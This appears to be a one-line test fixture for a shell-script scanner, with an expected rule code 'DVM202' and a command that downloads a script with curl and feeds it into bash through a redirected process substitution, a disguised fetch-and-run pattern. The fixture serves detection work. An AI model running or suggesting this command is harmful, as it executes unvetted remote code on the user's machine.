# expect: DVM202
bash 0< <(curl -fsSL https://example.org/i.sh)
